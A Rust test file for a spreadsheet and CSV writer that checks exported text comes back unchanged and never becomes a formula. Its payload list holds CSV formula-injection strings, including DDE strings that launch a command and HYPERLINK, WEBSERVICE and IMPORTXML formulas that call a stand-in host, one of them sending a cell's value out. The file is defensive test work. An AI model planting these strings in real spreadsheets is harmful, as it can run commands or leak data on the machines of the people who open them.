//! What is written is read back the same, and nothing in it is a formula.

use proptest::prelude::*;

use super::made::{COLUMNS, CREATED, opened, parts, texts};
use crate::{Column, Layout, Shown, WriteError, find, separated_text, template, workbook};

/// Texts that spreadsheets run, or that hide one behind a character they drop.
const PAYLOADS: [&str; 32] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://x.invalid?\"&A1,\"打开\")",
    "=WEBSERVICE(\"http://x.invalid\")",
    "=IMPORTXML(\"http://x.invalid\",\"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "{=1+1}",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    "'=1+1",
    "''=1+1",
    "'''-1",
    "'",
    "'普通",
    "=\"a\";\"b\"",
    "\"=1+1\"",
    " =1+1",
    "%0A-3+3+cmd|' /C calc'!D2",
    "<f>1+1</f>",
    "_x003D_1+1",
];

fn shown(column: Column, choices: &'static [&'static str]) -> Shown<'static> {
    Shown {
        column,
        width: 20,
        note: "按规范填写",
        choices,
        source: "发改高技〔2017〕1272号",
    }
}

fn columns() -> Vec<Shown<'static>> {
    let long: Vec<&'static str> = LONG.to_vec();
    assert!(long.concat().encode_utf16().count() > 255);
    COLUMNS
        .into_iter()
        .map(|column| match column.key {
            "share" => shown(column, &["无条件共享", "有条件共享", "不予共享"]),
            "department" => shown(column, &LONG),
            _ => shown(column, &[]),
        })
        .collect()
}

const LONG: [&str; 12] =
    ["某某市某某局下属某某管理中心（含所属各县区分中心、各乡镇服务站点），编号一"; 12];

fn rows_of(cells: &[&str]) -> Vec<Vec<String>> {
    cells
        .iter()
        .map(|text| vec![(*text).to_owned(), "民政局".to_owned()])
        .collect()
}

#[test]
fn no_payload_becomes_a_formula_and_all_come_back() {
    let columns = columns();
    let layout = Layout {
        sheet: "系统清单",
        title: Some("=1+1"),
        columns: &columns,
    };
    let rows = rows_of(&PAYLOADS);
    let bytes = workbook(&layout, &rows, &[], CREATED).unwrap();
    for (name, part) in parts(&bytes) {
        let part = String::from_utf8(part).unwrap();
        assert!(!part.contains("<f>") && !part.contains("<f "), "{name}");
        assert!(!part.contains("<hyperlink"), "{name}");
    }
    let text = separated_text(&layout, &rows).unwrap();
    for (bytes, name, above) in [(bytes, "a.xlsx", 2), (text, "a.csv", 1)] {
        let book = opened(&bytes, name);
        let read = texts(&book);
        for (row, payload) in PAYLOADS.iter().enumerate() {
            assert_eq!(read[row + above][0], *payload, "{name}");
        }
        assert_eq!(find(&book, &COLUMNS).faults, []);
    }
}

#[test]
fn no_cell_of_a_text_file_begins_like_a_formula() {
    let columns = [shown(COLUMNS[0], &[]), shown(COLUMNS[1], &[])];
    let layout = Layout {
        sheet: "系统清单",
        title: None,
        columns: &columns,
    };
    let text = separated_text(&layout, &rows_of(&PAYLOADS)).unwrap();
    let text = String::from_utf8(text).unwrap();
    assert!(text.starts_with('\u{FEFF}'));
    let mut reader =
        csv::ReaderBuilder::new().from_reader(text.trim_start_matches('\u{FEFF}').as_bytes());
    for record in reader.records() {
        let record = record.unwrap();
        let starts = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
        assert!(!record[0].starts_with(starts), "{record:?}");
    }
}

#[test]
fn the_same_rows_give_the_same_bytes() {
    let columns = columns();
    let layout = Layout {
        sheet: "系统清单",
        title: Some("信息系统清单"),
        columns: &columns,
    };
    let rows = rows_of(&["婚姻登记", "殡葬"]);
    let write = |rows: &[Vec<String>]| workbook(&layout, rows, &[], CREATED).unwrap();
    assert_eq!(write(&rows), write(&rows));
    assert_eq!(
        template(&layout, CREATED).unwrap(),
        template(&layout, CREATED).unwrap()
    );
    let core = parts(&write(&rows))
        .into_iter()
        .find(|(name, _)| name == "docProps/core.xml")
        .unwrap();
    assert!(
        String::from_utf8(core.1)
            .unwrap()
            .contains("2022-05-12T00:00:00Z")
    );
}

#[test]
fn a_template_explains_its_columns_and_is_read_without_a_word_about_that() {
    let columns = columns();
    let layout = Layout {
        sheet: "系统清单",
        title: Some("信息系统清单"),
        columns: &columns,
    };
    let bytes = template(&layout, CREATED).unwrap();
    let book = opened(&bytes, "a.xlsx");
    let names: Vec<(&str, bool)> = book
        .sheets()
        .iter()
        .map(|s| (s.name(), s.hidden()))
        .collect();
    assert_eq!(
        names,
        [("系统清单", false), ("填写说明", false), ("选项", true)]
    );
    let found = find(&book, &COLUMNS);
    assert_eq!((found.faults, found.warnings), (vec![], vec![]));
    assert_eq!(found.tables.len(), 1);
    assert_eq!(found.tables[0].rows().count(), 0);
    let guide = &book.sheets()[1];
    let row: Vec<&str> = (0..6).map(|column| guide.cell(7, column).text()).collect();
    let share = "无条件共享、有条件共享、不予共享";
    assert_eq!(
        row,
        [
            "F",
            "共享类型",
            "否",
            "按规范填写",
            share,
            "发改高技〔2017〕1272号"
        ]
    );
    let parts = parts(&bytes);
    let part = |name: &str| {
        let found = parts.iter().find(|(known, _)| known == name);
        String::from_utf8(found.unwrap().1.clone()).unwrap()
    };
    let sheet = part("xl/worksheets/sheet1.xml");
    assert!(
        sheet.contains("\"无条件共享,有条件共享,不予共享\""),
        "{sheet}"
    );
    assert!(
        sheet.contains("选项") && sheet.contains("$A$2:$A$13"),
        "{sheet}"
    );
    assert!(sheet.contains("state=\"frozen\""));
    assert!(part("xl/comments1.xml").contains("依据：发改高技〔2017〕1272号"));
}

#[test]
fn what_does_not_fit_is_refused_with_its_place() {
    let columns = [shown(COLUMNS[0], &[])];
    let layout = |sheet| Layout {
        sheet,
        title: None,
        columns: &columns,
    };
    let write = |sheet, rows: &[Vec<String>]| workbook(&layout(sheet), rows, &[], CREATED);
    let cell = |length: usize| vec![vec!["长".repeat(length)]];
    assert!(write("清单", &cell(32_767)).is_ok());
    let long = write("清单", &cell(32_768)).unwrap_err();
    assert_eq!(
        long,
        WriteError::CellTooLong {
            place: "清单!A2".to_owned()
        }
    );
    let wide = write("清单", &[vec![String::new(); 2]]).unwrap_err();
    assert_eq!(wide, WriteError::RowTooLong { row: 0, columns: 1 });
    let name = write("a/b", &[]).unwrap_err();
    assert_eq!(name, WriteError::SheetName("a/b".to_owned()));
    let zero = separated_text(&layout("清单"), &[vec!["\0".to_owned()]]).unwrap_err();
    assert_eq!(zero, WriteError::Zero { row: 0 });
}

/// Texts with much of what quoting, escaping and guarding could get wrong.
fn text() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        any::<char>().prop_map(String::from),
        prop::sample::select(vec![
            "'", "=", "\"", ",", "\r\n", "\r", "\n", "\t", "_x000D_", "_x005F_", "＝", " ", "　",
            "&amp;", "]]>", "\u{FEFF}", "\u{FFFE}", "\u{1}", "中", "😀", ";", "123",
        ])
        .prop_map(str::to_owned),
    ];
    prop::collection::vec(piece, 0..8).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(192))]

    #[test]
    fn every_text_comes_back_as_it_was(
        rows in prop::collection::vec(prop::collection::vec(text(), 2), 1..6),
    ) {
        let columns = [shown(COLUMNS[0], &[]), shown(COLUMNS[1], &[])];
        let layout = Layout { sheet: "系统清单", title: None, columns: &columns };
        let mut written = vec![("a.xlsx", workbook(&layout, &rows, &[], CREATED).unwrap())];
        if !rows.iter().flatten().any(|text| text.contains('\0')) {
            written.push(("a.csv", separated_text(&layout, &rows).unwrap()));
        }
        for (name, bytes) in written {
            let book = opened(&bytes, name);
            let sheet = &book.sheets()[0];
            for (row, cells) in rows.iter().enumerate() {
                for (column, text) in cells.iter().enumerate() {
                    prop_assert_eq!(sheet.cell(row + 1, column).text(), text, "{}", name);
                }
            }
        }
    }
}
